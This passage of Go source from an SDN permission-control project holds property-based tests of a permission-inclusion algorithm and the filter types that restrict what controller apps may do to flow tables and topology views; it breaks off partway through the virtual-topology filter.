func TestIncludesNilConventions(t *testing.T) {
	leaf := NewLeaf(NewOwnerFilter(true))
	if !mustIncludes(t, nil, leaf) || !mustIncludes(t, nil, nil) {
		t.Error("nil (unrestricted) includes everything")
	}
	if mustIncludes(t, leaf, nil) {
		t.Error("OWN_FLOWS must not include the unrestricted permission")
	}
	// A total filter does include the unrestricted permission on its
	// dimension.
	if !mustIncludes(t, NewLeaf(NewOwnerFilter(false)), nil) {
		t.Error("ALL_FLOWS is total, so it includes unrestricted")
	}
}

func TestIncludesComposite(t *testing.T) {
	own := NewLeaf(NewOwnerFilter(true))
	all := NewLeaf(NewOwnerFilter(false))
	sub16 := NewLeaf(ipDstFilter(10, 13, 0, 0, 16))
	sub24 := NewLeaf(ipDstFilter(10, 13, 7, 0, 24))
	prio := NewLeaf(NewMaxPriorityFilter(100))
	prioTight := NewLeaf(NewMaxPriorityFilter(50))

	tests := []struct {
		name string
		a, b Expr
		want bool
	}{
		{"or widens", &Or{L: own, R: sub16}, own, true},
		{"or widens 2", &Or{L: own, R: sub16}, sub24, true},
		{"and narrows", sub16, &And{L: sub24, R: prio}, true},
		{"conjunct not covered", &And{L: sub16, R: prio}, sub24, false},
		{"conjunction ordered", &And{L: sub16, R: prio}, &And{L: sub24, R: prioTight}, true},
		{"conjunction reversed operands", &And{L: prio, R: sub16}, &And{L: prioTight, R: sub24}, true},
		{"disjunction of disjoint covers union member", &Or{L: sub16, R: prio}, prio, true},
		{"all covers own", all, own, true},
		{"own does not cover all", own, all, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := mustIncludes(t, tt.a, tt.b); got != tt.want {
				t.Errorf("Includes = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestIncludesWithNegation(t *testing.T) {
	sub16 := ipDstFilter(10, 13, 0, 0, 16)
	sub24 := ipDstFilter(10, 13, 7, 0, 24)
	other := ipDstFilter(10, 14, 0, 0, 16)

	// ¬narrow ⊇ ¬wide  ⇔  wide ⊇ narrow.
	if !mustIncludes(t, &Not{X: NewLeaf(sub24)}, &Not{X: NewLeaf(sub16)}) {
		t.Error("¬/24 must include ¬/16")
	}
	if mustIncludes(t, &Not{X: NewLeaf(sub16)}, &Not{X: NewLeaf(sub24)}) {
		t.Error("¬/16 must not include ¬/24")
	}
	// ¬f ⊇ g when f and g are disjoint.
	if !mustIncludes(t, &Not{X: NewLeaf(other)}, NewLeaf(sub16)) {
		t.Error("¬(10.14/16) must include 10.13/16")
	}
	if mustIncludes(t, &Not{X: NewLeaf(sub16)}, NewLeaf(sub24)) {
		t.Error("¬(10.13/16) must not include 10.13.7/24")
	}
	// f ⊇ ¬g only when f is total.
	if !mustIncludes(t, NewLeaf(NewOwnerFilter(false)), &Not{X: NewLeaf(NewOwnerFilter(true))}) {
		t.Error("ALL_FLOWS includes ¬OWN_FLOWS")
	}
	if mustIncludes(t, NewLeaf(sub16), &Not{X: NewLeaf(sub24)}) {
		t.Error("a subnet filter must not include a negated one")
	}
	// Unsatisfiable right side is included in anything.
	contradiction := &And{L: NewLeaf(sub16), R: NewLeaf(other)}
	if !mustIncludes(t, NewLeaf(NewMaxPriorityFilter(1)), contradiction) {
		t.Error("empty behaviour set is included in anything")
	}
}

func TestEquivalent(t *testing.T) {
	a := &Or{L: NewLeaf(NewOwnerFilter(true)), R: NewLeaf(ipDstFilter(10, 13, 0, 0, 16))}
	b := &Or{L: NewLeaf(ipDstFilter(10, 13, 0, 0, 16)), R: NewLeaf(NewOwnerFilter(true))}
	eq, err := Equivalent(a, b)
	if err != nil || !eq {
		t.Errorf("commuted disjunction should be equivalent: (%v,%v)", eq, err)
	}
	eq, err = Equivalent(a, NewLeaf(NewOwnerFilter(true)))
	if err != nil || eq {
		t.Errorf("strictly wider expression is not equivalent: (%v,%v)", eq, err)
	}
}

// --- property-based checks of Algorithm 1 --------------------------------

// filterPool is a diverse set of singleton filters for random expressions.
func filterPool() []Filter {
	return []Filter{
		ipDstFilter(10, 13, 0, 0, 16),
		ipDstFilter(10, 13, 7, 0, 24),
		ipDstFilter(10, 14, 0, 0, 16),
		ipSrcFilter(192, 168, 0, 0, 16),
		NewWildcardFilter(of.FieldIPDst, uint64(of.PrefixMask(24))),
		NewActionFilter(ActionClassForward),
		NewActionFilter(ActionClassDrop),
		NewModifyActionFilter(of.FieldIPDst),
		NewOwnerFilter(true),
		NewOwnerFilter(false),
		NewMaxPriorityFilter(100),
		NewMinPriorityFilter(50),
		NewTableSizeFilter(10),
		NewPktOutFilter(false),
		NewPktOutFilter(true),
		NewStatsFilter(of.StatsPort),
		NewStatsFilter(of.StatsFlow),
	}
}

// randomExpr builds a random expression of bounded depth over the pool.
func randomExpr(r *rand.Rand, pool []Filter, depth int) Expr {
	if depth <= 0 || r.Intn(3) == 0 {
		return NewLeaf(pool[r.Intn(len(pool))])
	}
	switch r.Intn(4) {
	case 0:
		return &And{L: randomExpr(r, pool, depth-1), R: randomExpr(r, pool, depth-1)}
	case 1:
		return &Or{L: randomExpr(r, pool, depth-1), R: randomExpr(r, pool, depth-1)}
	case 2:
		return &Not{X: randomExpr(r, pool, depth-1)}
	default:
		return NewLeaf(pool[r.Intn(len(pool))])
	}
}

// randomFullCall draws a call carrying every attribute dimension the pool
// inspects, so vacuous truth never masks a comparison.
func randomFullCall(r *rand.Rand) *Call {
	m := of.NewMatch()
	// Randomly pick dst inside one of the pool subnets or outside.
	dstChoices := []of.IPv4{
		of.IPv4FromOctets(10, 13, 7, byte(r.Intn(256))),
		of.IPv4FromOctets(10, 13, byte(r.Intn(256)), 1),
		of.IPv4FromOctets(10, 14, 2, 2),
		of.IPv4FromOctets(172, 16, 0, 1),
	}
	dst := dstChoices[r.Intn(len(dstChoices))]
	switch r.Intn(3) {
	case 0:
		m.Set(of.FieldIPDst, uint64(dst))
	case 1:
		m.SetMasked(of.FieldIPDst, uint64(dst), uint64(of.PrefixMask(8+r.Intn(25))))
	default:
		// leave wildcarded
	}
	if r.Intn(2) == 0 {
		m.Set(of.FieldIPSrc, uint64(of.IPv4FromOctets(192, 168, byte(r.Intn(2)), 5)))
	}

	actionsChoices := [][]of.Action{
		{of.Output(uint16(r.Intn(8)))},
		{of.Flood()},
		{of.Drop()},
		{},
		{of.SetField(of.FieldIPDst, uint64(r.Intn(1<<16)))},
		{of.SetField(of.FieldIPDst, 9), of.Output(1)},
		{of.SetField(of.FieldIPSrc, 9), of.Output(1)},
	}
	owners := []string{"me", "other", ""}
	return &Call{
		App:           "me",
		Token:         TokenInsertFlow,
		DPID:          of.DPID(r.Intn(4)),
		HasDPID:       true,
		Match:         m,
		Actions:       actionsChoices[r.Intn(len(actionsChoices))],
		Priority:      uint16(r.Intn(200)),
		HasPriority:   true,
		RuleCount:     r.Intn(15),
		HasRuleCount:  true,
		FlowOwner:     owners[r.Intn(len(owners))],
		HasFlowOwner:  true,
		FromPktIn:     r.Intn(2) == 0,
		HasProvenance: true,
		StatsLevel:    []of.StatsType{of.StatsFlow, of.StatsPort, of.StatsSwitch}[r.Intn(3)],
	}
}

func TestPropertyIncludesSoundness(t *testing.T) {
	// Algorithm 1 must be sound: whenever it claims A ⊇ B, every call
	// admitted by B is admitted by A.
	r := rand.New(rand.NewSource(1))
	pool := filterPool()
	claims := 0
	for i := 0; i < 4000; i++ {
		a := randomExpr(r, pool, 3)
		b := randomExpr(r, pool, 3)
		inc, err := Includes(a, b)
		if err != nil || !inc {
			continue
		}
		claims++
		for j := 0; j < 60; j++ {
			call := randomFullCall(r)
			if b.Eval(call) && !a.Eval(call) {
				t.Fatalf("soundness violated:\n A=%s\n B=%s\n call=%s (owner=%q prio=%d actions=%v)",
					a, b, call, call.FlowOwner, call.Priority, call.Actions)
			}
		}
	}
	if claims < 50 {
		t.Errorf("only %d inclusion claims exercised; generator too weak", claims)
	}
}

func TestPropertyIncludesReflexiveAndLattice(t *testing.T) {
	r := rand.New(rand.NewSource(2))
	pool := filterPool()
	for i := 0; i < 1500; i++ {
		a := randomExpr(r, pool, 3)
		b := randomExpr(r, pool, 3)
		if !mustIncludes(t, a, a) {
			t.Fatalf("reflexivity violated for %s", a)
		}
		// A ⊇ A∧B (meet is a lower bound).
		if !mustIncludes(t, a, &And{L: a, R: b}) {
			t.Fatalf("meet lower bound violated for A=%s B=%s", a, b)
		}
		// A∨B ⊇ A (join is an upper bound).
		if !mustIncludes(t, &Or{L: a, R: b}, a) {
			t.Fatalf("join upper bound violated for A=%s B=%s", a, b)
		}
	}
}

func TestPropertyIncludesTransitivity(t *testing.T) {
	// On chains where inclusion is decided positively, transitivity must
	// hold.
	r := rand.New(rand.NewSource(3))
	pool := filterPool()
	checked := 0
	for i := 0; i < 6000 && checked < 200; i++ {
		a := randomExpr(r, pool, 2)
		b := randomExpr(r, pool, 2)
		c := randomExpr(r, pool, 2)
		if mustIncludes(t, a, b) && mustIncludes(t, b, c) {
			checked++
			// The conservative algorithm may fail to re-derive a ⊇ c
			// syntactically, but it must never contradict it semantically:
			// verify with random calls instead of demanding Includes(a,c).
			for j := 0; j < 40; j++ {
				call := randomFullCall(r)
				if c.Eval(call) && !a.Eval(call) {
					t.Fatalf("semantic transitivity violated: A=%s B=%s C=%s", a, b, c)
				}
			}
		}
	}
	if checked < 20 {
		t.Skipf("only %d chains found", checked)
	}
}
