package core

import (
	"fmt"
	"sort"
	"strings"

	"sdnshield/internal/of"
)

// ---------------------------------------------------------------------------
// Predicate filter

// PredFilter compares a flow-predicate field (or the mapped attribute of a
// host-network call) against a masked value, and only lets through calls
// whose predicate is at least as narrow (§IV-B: "only allows API calls
// with narrower predicates to pass through").
type PredFilter struct {
	field of.Field
	value uint64
	mask  uint64
}

// NewPredFilter builds a predicate filter on field requiring value under
// mask. The value is canonicalized into the mask.
func NewPredFilter(field of.Field, value, mask uint64) *PredFilter {
	mask &= of.FullMask(field)
	return &PredFilter{field: field, value: value & mask, mask: mask}
}

// Field returns the match field the filter constrains.
func (f *PredFilter) Field() of.Field { return f.field }

// Value returns the canonical (masked) comparison value.
func (f *PredFilter) Value() uint64 { return f.value }

// Mask returns the comparison mask.
func (f *PredFilter) Mask() uint64 { return f.mask }

// Dimension implements Filter.
func (f *PredFilter) Dimension() string { return "pred:" + f.field.String() }

// Test implements Filter.
func (f *PredFilter) Test(call *Call) (bool, bool) {
	v, m, ok := call.FieldValue(f.field)
	if !ok {
		return false, false
	}
	// The call's predicate must pin down at least the filter's bits and
	// agree on them; a wider (more wildcarded) predicate would reach
	// outside the permitted region.
	return m&f.mask == f.mask && v&f.mask == f.value, true
}

// Includes implements Filter.
func (f *PredFilter) Includes(other Filter) bool {
	o, ok := other.(*PredFilter)
	if !ok || o.field != f.field {
		return false
	}
	// f's region is wider iff it constrains a subset of o's bits and
	// agrees with o on those bits.
	return f.mask&^o.mask == 0 && o.value&f.mask == f.value
}

// DisjointWith implements Filter.
func (f *PredFilter) DisjointWith(other Filter) bool {
	o, ok := other.(*PredFilter)
	if !ok || o.field != f.field {
		return false
	}
	common := f.mask & o.mask
	return common != 0 && f.value&common != o.value&common
}

// Total implements Filter.
func (f *PredFilter) Total() bool { return f.mask == 0 }

// Equal implements Filter.
func (f *PredFilter) Equal(other Filter) bool {
	o, ok := other.(*PredFilter)
	return ok && *o == *f
}

// String implements Filter.
func (f *PredFilter) String() string {
	full := of.FullMask(f.field)
	if f.field == of.FieldIPSrc || f.field == of.FieldIPDst {
		if f.mask == full {
			return fmt.Sprintf("%s %s", f.field, of.IPv4(f.value))
		}
		return fmt.Sprintf("%s %s MASK %s", f.field, of.IPv4(f.value), of.IPv4(f.mask))
	}
	if f.mask == full {
		return fmt.Sprintf("%s %d", f.field, f.value)
	}
	return fmt.Sprintf("%s %d MASK %d", f.field, f.value, f.mask)
}

// ---------------------------------------------------------------------------
// Wildcard filter

// WildcardFilter inspects the wildcard bits of an issued rule: the bits in
// required must be wildcarded (not matched) by the rule. The paper's
// load-balancer example forces the upper 24 bits of IP_DST to stay
// wildcarded so the app can only discriminate flows on the lower 8.
type WildcardFilter struct {
	field    of.Field
	required uint64
}

// NewWildcardFilter builds a wildcard filter on field requiring the bits
// in required to remain wildcarded.
func NewWildcardFilter(field of.Field, required uint64) *WildcardFilter {
	return &WildcardFilter{field: field, required: required & of.FullMask(field)}
}

// Field returns the constrained match field.
func (f *WildcardFilter) Field() of.Field { return f.field }

// Required returns the bits that must stay wildcarded.
func (f *WildcardFilter) Required() uint64 { return f.required }

// Dimension implements Filter.
func (f *WildcardFilter) Dimension() string { return "wildcard:" + f.field.String() }

// Test implements Filter.
func (f *WildcardFilter) Test(call *Call) (bool, bool) {
	if call.Match == nil {
		return false, false
	}
	_, m := call.Match.Get(f.field)
	return m&f.required == 0, true
}

// Includes implements Filter.
func (f *WildcardFilter) Includes(other Filter) bool {
	o, ok := other.(*WildcardFilter)
	if !ok || o.field != f.field {
		return false
	}
	// Requiring fewer wildcard bits admits more rules.
	return f.required&^o.required == 0
}

// DisjointWith implements Filter.
func (f *WildcardFilter) DisjointWith(Filter) bool {
	// A fully wildcarded rule satisfies every wildcard filter, so two
	// wildcard filters always overlap.
	return false
}

// Total implements Filter.
func (f *WildcardFilter) Total() bool { return f.required == 0 }

// Equal implements Filter.
func (f *WildcardFilter) Equal(other Filter) bool {
	o, ok := other.(*WildcardFilter)
	return ok && *o == *f
}

// String implements Filter.
func (f *WildcardFilter) String() string {
	if f.field == of.FieldIPSrc || f.field == of.FieldIPDst {
		return fmt.Sprintf("WILDCARD %s %s", f.field, of.IPv4(f.required))
	}
	return fmt.Sprintf("WILDCARD %s %d", f.field, f.required)
}

// ---------------------------------------------------------------------------
// Action filter

// ActionClass is the action category an ActionFilter permits.
type ActionClass uint8

// Action classes from the grammar: DROP | FORWARD | MODIFY field.
const (
	ActionClassDrop ActionClass = iota + 1
	ActionClassForward
	ActionClassModify
)

// String names the class.
func (c ActionClass) String() string {
	switch c {
	case ActionClassDrop:
		return "DROP"
	case ActionClassForward:
		return "FORWARD"
	case ActionClassModify:
		return "MODIFY"
	default:
		return fmt.Sprintf("ACTIONCLASS(%d)", uint8(c))
	}
}

// ActionFilter permits calls whose action list is homogeneous in one
// action class. Heterogeneous action lists must be authorized by granting
// the classes in separate rules; this keeps each singleton comparable.
type ActionFilter struct {
	class ActionClass
	// field restricts ActionClassModify to one header field; zero allows
	// rewriting any field.
	field of.Field
}

// NewActionFilter builds a DROP or FORWARD action filter.
func NewActionFilter(class ActionClass) *ActionFilter { return &ActionFilter{class: class} }

// NewModifyActionFilter builds a MODIFY filter restricted to field (zero
// for any field).
func NewModifyActionFilter(field of.Field) *ActionFilter {
	return &ActionFilter{class: ActionClassModify, field: field}
}

// Class returns the permitted action class.
func (f *ActionFilter) Class() ActionClass { return f.class }

// Dimension implements Filter.
func (f *ActionFilter) Dimension() string { return DimAction }

func classifyAction(a of.Action) (ActionClass, of.Field) {
	switch a.Type {
	case of.ActionDrop:
		return ActionClassDrop, 0
	case of.ActionOutput, of.ActionFlood:
		return ActionClassForward, 0
	case of.ActionSetField:
		return ActionClassModify, a.Field
	default:
		return 0, 0
	}
}

// Test implements Filter.
func (f *ActionFilter) Test(call *Call) (bool, bool) {
	if call.Actions == nil {
		return false, false
	}
	if len(call.Actions) == 0 {
		// An empty action list drops the packet.
		return f.class == ActionClassDrop, true
	}
	for _, a := range call.Actions {
		c, fld := classifyAction(a)
		switch {
		case c == f.class:
			if f.class == ActionClassModify && f.field != 0 && fld != f.field {
				return false, true
			}
		case f.class == ActionClassModify && c == ActionClassForward:
			// A MODIFY grant covers the forward that completes a rewrite
			// rule; the converse does not hold.
		default:
			return false, true
		}
	}
	return true, true
}

// Includes implements Filter.
func (f *ActionFilter) Includes(other Filter) bool {
	o, ok := other.(*ActionFilter)
	if !ok {
		return false
	}
	// MODIFY admits pure-forward action lists too (see Test), so a MODIFY
	// grant includes a FORWARD grant.
	if f.class == ActionClassModify && o.class == ActionClassForward {
		return true
	}
	if o.class != f.class {
		return false
	}
	if f.class == ActionClassModify {
		return f.field == 0 || f.field == o.field
	}
	return true
}

// DisjointWith implements Filter.
func (f *ActionFilter) DisjointWith(other Filter) bool {
	o, ok := other.(*ActionFilter)
	if !ok {
		return false
	}
	if o.class != f.class {
		// MODIFY-class calls may embed forwards, so MODIFY overlaps
		// FORWARD; every other class pair is disjoint.
		pair := [2]ActionClass{f.class, o.class}
		if pair == [2]ActionClass{ActionClassModify, ActionClassForward} ||
			pair == [2]ActionClass{ActionClassForward, ActionClassModify} {
			return false
		}
		return true
	}
	if f.class == ActionClassModify && f.field != 0 && o.field != 0 && f.field != o.field {
		return true
	}
	return false
}

// Total implements Filter.
func (f *ActionFilter) Total() bool { return false }

// Equal implements Filter.
func (f *ActionFilter) Equal(other Filter) bool {
	o, ok := other.(*ActionFilter)
	return ok && *o == *f
}

// String implements Filter.
func (f *ActionFilter) String() string {
	switch f.class {
	case ActionClassModify:
		if f.field != 0 {
			return "ACTION MODIFY " + f.field.String()
		}
		return "ACTION MODIFY"
	default:
		return "ACTION " + f.class.String()
	}
}

// ---------------------------------------------------------------------------
// Ownership filter

// OwnerFilter restricts flow-table calls to the caller's own flows
// (OWN_FLOWS) or permits any flow (ALL_FLOWS). Flow ownership is tracked
// by the permission engine and resolved into Call.FlowOwner.
type OwnerFilter struct {
	ownOnly bool
}

// NewOwnerFilter builds an ownership filter; ownOnly selects OWN_FLOWS.
func NewOwnerFilter(ownOnly bool) *OwnerFilter { return &OwnerFilter{ownOnly: ownOnly} }

// OwnOnly reports whether the filter is OWN_FLOWS.
func (f *OwnerFilter) OwnOnly() bool { return f.ownOnly }

// Dimension implements Filter.
func (f *OwnerFilter) Dimension() string { return DimOwner }

// Test implements Filter.
func (f *OwnerFilter) Test(call *Call) (bool, bool) {
	if !call.HasFlowOwner {
		return false, false
	}
	if !f.ownOnly {
		return true, true
	}
	// A new flow (no owner yet) belongs to its creator.
	return call.FlowOwner == "" || call.FlowOwner == call.App, true
}

// Includes implements Filter.
func (f *OwnerFilter) Includes(other Filter) bool {
	o, ok := other.(*OwnerFilter)
	if !ok {
		return false
	}
	return !f.ownOnly || o.ownOnly
}

// DisjointWith implements Filter.
func (f *OwnerFilter) DisjointWith(Filter) bool { return false }

// Total implements Filter.
func (f *OwnerFilter) Total() bool { return !f.ownOnly }

// Equal implements Filter.
func (f *OwnerFilter) Equal(other Filter) bool {
	o, ok := other.(*OwnerFilter)
	return ok && *o == *f
}

// String implements Filter.
func (f *OwnerFilter) String() string {
	if f.ownOnly {
		return "OWN_FLOWS"
	}
	return "ALL_FLOWS"
}

// ---------------------------------------------------------------------------
// Priority filter

// PriorityFilter bounds the priority of issued rules from above
// (MAX_PRIORITY) or below (MIN_PRIORITY). Bounding from above is how an
// administrator prevents an app from overriding a security app's rules.
type PriorityFilter struct {
	isMax bool
	bound uint16
}

// NewMaxPriorityFilter permits priorities <= bound.
func NewMaxPriorityFilter(bound uint16) *PriorityFilter {
	return &PriorityFilter{isMax: true, bound: bound}
}

// NewMinPriorityFilter permits priorities >= bound.
func NewMinPriorityFilter(bound uint16) *PriorityFilter {
	return &PriorityFilter{isMax: false, bound: bound}
}

// IsMax reports whether the filter is an upper bound.
func (f *PriorityFilter) IsMax() bool { return f.isMax }

// Bound returns the priority bound.
func (f *PriorityFilter) Bound() uint16 { return f.bound }

// Dimension implements Filter.
func (f *PriorityFilter) Dimension() string { return DimPriority }

// Test implements Filter.
func (f *PriorityFilter) Test(call *Call) (bool, bool) {
	if !call.HasPriority {
		return false, false
	}
	if f.isMax {
		return call.Priority <= f.bound, true
	}
	return call.Priority >= f.bound, true
}

// Includes implements Filter.
func (f *PriorityFilter) Includes(other Filter) bool {
	o, ok := other.(*PriorityFilter)
	if !ok || o.isMax != f.isMax {
		return false
	}
	if f.isMax {
		return f.bound >= o.bound
	}
	return f.bound <= o.bound
}

// DisjointWith implements Filter.
func (f *PriorityFilter) DisjointWith(other Filter) bool {
	o, ok := other.(*PriorityFilter)
	if !ok || o.isMax == f.isMax {
		return false
	}
	maxF, minF := f, o
	if !f.isMax {
		maxF, minF = o, f
	}
	return maxF.bound < minF.bound
}

// Total implements Filter.
func (f *PriorityFilter) Total() bool {
	return (f.isMax && f.bound == 0xffff) || (!f.isMax && f.bound == 0)
}

// Equal implements Filter.
func (f *PriorityFilter) Equal(other Filter) bool {
	o, ok := other.(*PriorityFilter)
	return ok && *o == *f
}

// String implements Filter.
func (f *PriorityFilter) String() string {
	if f.isMax {
		return fmt.Sprintf("MAX_PRIORITY %d", f.bound)
	}
	return fmt.Sprintf("MIN_PRIORITY %d", f.bound)
}

// ---------------------------------------------------------------------------
// Table-size filter

// TableSizeFilter caps the number of rules an app may hold in one switch.
// The current count is tracked by the permission engine and resolved into
// Call.RuleCount before the check.
type TableSizeFilter struct {
	maxRules int
}

// NewTableSizeFilter permits inserts while the app holds fewer than
// maxRules rules on the target switch.
func NewTableSizeFilter(maxRules int) *TableSizeFilter {
	return &TableSizeFilter{maxRules: maxRules}
}

// MaxRules returns the cap.
func (f *TableSizeFilter) MaxRules() int { return f.maxRules }

// Dimension implements Filter.
func (f *TableSizeFilter) Dimension() string { return DimTableSize }

// Test implements Filter.
func (f *TableSizeFilter) Test(call *Call) (bool, bool) {
	if !call.HasRuleCount {
		return false, false
	}
	return call.RuleCount < f.maxRules, true
}

// Includes implements Filter.
func (f *TableSizeFilter) Includes(other Filter) bool {
	o, ok := other.(*TableSizeFilter)
	return ok && f.maxRules >= o.maxRules
}

// DisjointWith implements Filter.
func (f *TableSizeFilter) DisjointWith(Filter) bool { return false }

// Total implements Filter.
func (f *TableSizeFilter) Total() bool { return false }

// Equal implements Filter.
func (f *TableSizeFilter) Equal(other Filter) bool {
	o, ok := other.(*TableSizeFilter)
	return ok && *o == *f
}

// String implements Filter.
func (f *TableSizeFilter) String() string {
	return fmt.Sprintf("MAX_RULE_COUNT %d", f.maxRules)
}

// ---------------------------------------------------------------------------
// Packet-out filter

// PktOutFilter restricts packet-out provenance: FROM_PKT_IN only permits
// re-emitting a buffered packet-in payload, blocking apps from injecting
// fabricated traffic (the Class 1 defense).
type PktOutFilter struct {
	arbitrary bool
}

// NewPktOutFilter builds a provenance filter; arbitrary selects ARBITRARY.
func NewPktOutFilter(arbitrary bool) *PktOutFilter { return &PktOutFilter{arbitrary: arbitrary} }

// Arbitrary reports whether fabricated payloads are permitted.
func (f *PktOutFilter) Arbitrary() bool { return f.arbitrary }

// Dimension implements Filter.
func (f *PktOutFilter) Dimension() string { return DimPktOut }

// Test implements Filter.
func (f *PktOutFilter) Test(call *Call) (bool, bool) {
	if !call.HasProvenance {
		return false, false
	}
	return f.arbitrary || call.FromPktIn, true
}

// Includes implements Filter.
func (f *PktOutFilter) Includes(other Filter) bool {
	o, ok := other.(*PktOutFilter)
	if !ok {
		return false
	}
	return f.arbitrary || !o.arbitrary
}

// DisjointWith implements Filter.
func (f *PktOutFilter) DisjointWith(Filter) bool { return false }

// Total implements Filter.
func (f *PktOutFilter) Total() bool { return f.arbitrary }

// Equal implements Filter.
func (f *PktOutFilter) Equal(other Filter) bool {
	o, ok := other.(*PktOutFilter)
	return ok && *o == *f
}

// String implements Filter.
func (f *PktOutFilter) String() string {
	if f.arbitrary {
		return "ARBITRARY"
	}
	return "FROM_PKT_IN"
}

// ---------------------------------------------------------------------------
// Physical topology filter

// PhysTopoFilter exposes only a subset of switches and links to the app.
// If no explicit link set is given, links between two permitted switches
// are permitted.
type PhysTopoFilter struct {
	switches map[of.DPID]bool
	links    map[LinkID]bool
	// explicitLinks distinguishes "LINK {}" (no links at all) from an
	// omitted LINK clause (links derived from the switch set).
	explicitLinks bool
}

// NewPhysTopoFilter builds a topology filter over the given switches, with
// links derived from switch membership.
func NewPhysTopoFilter(switches []of.DPID) *PhysTopoFilter {
	f := &PhysTopoFilter{switches: make(map[of.DPID]bool, len(switches))}
	for _, s := range switches {
		f.switches[s] = true
	}
	return f
}

// NewPhysTopoFilterWithLinks builds a topology filter with an explicit
// link set.
func NewPhysTopoFilterWithLinks(switches []of.DPID, links []LinkID) *PhysTopoFilter {
	f := NewPhysTopoFilter(switches)
	f.explicitLinks = true
	f.links = make(map[LinkID]bool, len(links))
	for _, l := range links {
		f.links[l] = true
	}
	return f
}

// Switches returns the permitted switch set, sorted.
func (f *PhysTopoFilter) Switches() []of.DPID {
	out := make([]of.DPID, 0, len(f.switches))
	for s := range f.switches {
		out = append(out, s)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// AllowsSwitch reports whether the filter exposes the switch.
func (f *PhysTopoFilter) AllowsSwitch(d of.DPID) bool { return f.switches[d] }

// AllowsLink reports whether the filter exposes the link.
func (f *PhysTopoFilter) AllowsLink(l LinkID) bool {
	if f.explicitLinks {
		return f.links[l]
	}
	return f.switches[l.A] && f.switches[l.B]
}

// Dimension implements Filter.
func (f *PhysTopoFilter) Dimension() string { return DimPhysTopo }

// Test implements Filter.
func (f *PhysTopoFilter) Test(call *Call) (bool, bool) {
	if !call.HasDPID && len(call.Switches) == 0 && len(call.Links) == 0 {
		return false, false
	}
	if call.HasDPID && !f.switches[call.DPID] {
		return false, true
	}
	for _, s := range call.Switches {
		if !f.switches[s] {
			return false, true
		}
	}
	for _, l := range call.Links {
		if !f.AllowsLink(l) {
			return false, true
		}
	}
	return true, true
}

// Includes implements Filter.
func (f *PhysTopoFilter) Includes(other Filter) bool {
	o, ok := other.(*PhysTopoFilter)
	if !ok {
		return false
	}
	for s := range o.switches {
		if !f.switches[s] {
			return false
		}
	}
	if o.explicitLinks {
		for l := range o.links {
			if !f.AllowsLink(l) {
				return false
			}
		}
		return true
	}
	// o derives links from its switch set: every pair of o-switches could
	// be a link.
	if !f.explicitLinks {
		return true // f's derived links cover o's (o.switches ⊆ f.switches)
	}
	oSw := o.Switches()
	for i, a := range oSw {
		for _, b := range oSw[i+1:] {
			if !f.links[NewLinkID(a, b)] {
				return false
			}
		}
	}
	return true
}

// DisjointWith implements Filter.
func (f *PhysTopoFilter) DisjointWith(other Filter) bool {
	o, ok := other.(*PhysTopoFilter)
	if !ok {
		return false
	}
	for s := range o.switches {
		if f.switches[s] {
			return false
		}
	}
	return true
}

// Total implements Filter.
func (f *PhysTopoFilter) Total() bool { return false }

// Equal implements Filter.
func (f *PhysTopoFilter) Equal(other Filter) bool {
	o, ok := other.(*PhysTopoFilter)
	if !ok || len(o.switches) != len(f.switches) ||
		o.explicitLinks != f.explicitLinks || len(o.links) != len(f.links) {
		return false
	}
	for s := range f.switches {
		if !o.switches[s] {
			return false
		}
	}
	for l := range f.links {
		if !o.links[l] {
			return false
		}
	}
	return true
}

// String implements Filter.
func (f *PhysTopoFilter) String() string {
	var sb strings.Builder
	sb.WriteString("SWITCH {")
	for i, s := range f.Switches() {
		if i > 0 {
			sb.WriteString(",")
		}
		fmt.Fprintf(&sb, "%d", uint64(s))
	}
	sb.WriteString("}")
	if f.explicitLinks {
		links := make([]LinkID, 0, len(f.links))
		for l := range f.links {
			links = append(links, l)
		}
		sort.Slice(links, func(i, j int) bool {
			if links[i].A != links[j].A {
				return links[i].A < links[j].A
			}
			return links[i].B < links[j].B
		})
		sb.WriteString(" LINK {")
		for i, l := range links {
			if i > 0 {
				sb.WriteString(",")
			}
			sb.WriteString(l.String())
		}
		sb.WriteString("}")
	}
	return sb.String()
}

// ---------------------------------------------------------------------------
// Virtual topology filter

// VirtTopoMode selects the abstract-topology style.
type VirtTopoMode uint8

// Virtual topology modes.
const (
	// VirtSingleBigSwitch collapses the physical network into one switch
	// whose ports are the external (host-facing) links.
	VirtSingleBigSwitch VirtTopoMode = iota + 1
	// VirtMapped groups named physical switch sets into virtual switches.
	VirtMapped
)

// VirtTopoFilter creates the illusion of an abstract topology (§IV-B):
// the permission engine translates API calls and responses between the
// app-visible virtual view and the physical network. As a predicate it is
// a view transformer, not a restrictor: calls addressed to the virtual
// view pass and are rewritten; the translation layer itself guarantees the
// app cannot address physical elements.
type VirtTopoFilter struct {
	mode VirtTopoMode
	// groups maps virtual switch id -> member physical switches, for
	// VirtMapped.
	groups map[of.DPID][]of.DPID
}

// NewSingleBigSwitchFilter builds a single-big-switch virtual topology.
func NewSingleBigSwitchFilter() *VirtTopoFilter {
	return &VirtTopoFilter{mode: VirtSingleBigSwitch}
}

// NewMappedTopoFilter builds a virtual topology from explicit groups of
// physical switches.
func NewMappedTopoFilter(groups map[of.DPID][]of.DPID) *VirtTopoFilter {
	copied := make(map[of.DPID][]of.DPID, len(groups))
	for v, members := range groups {
		ms := make([]of.DPID, len(members))
		copy(ms, members)
		sort.Slice(ms, func(i, j int) bool { return ms[i] < ms[j] })
		copied[v] = ms
	}
	return &VirtTopoFilter{mode: VirtMapped, groups: copied}
}

// Mode returns the abstraction style.
func (f *VirtTopoFilter) Mode() VirtTopoMode { return f.mode }

// Groups returns the virtual-to-physical mapping for VirtMapped filters.
func (f *VirtTopoFilter) Groups() map[of.DPID][]of.DPID {
	out := make(map[of.DPID][]of.DPID, len(f.groups))
	for v, members := range f.groups {
		ms := make([]of.DPID, len(members))
		copy(ms, members)
		out[v] = ms
	}
	return out
}

// Dimension implements Filter.
func (f *VirtTopoFilter) Dimension() string { return DimVirtTopo }

// Test implements Filter.
func (f *VirtTopoFilter) Test(call *Call) (bool, bool) {
	if !call.HasDPID && len(call.Switches) == 0 {
		return false, false
	}
	if f.mode == VirtSingleBigSwitch {
		// The virtual view exposes exactly one switch, DPID 0.
		if call.HasDPID && call.DPID != 0 {
			return false, true
		}
		for _, s := range call.Switches {
			if s != 0 {
				return false, true
			}
		}
		return true, true
	}
	ok := func(d of.DPID) bool { _, exists := f.groups[d]; return exists }
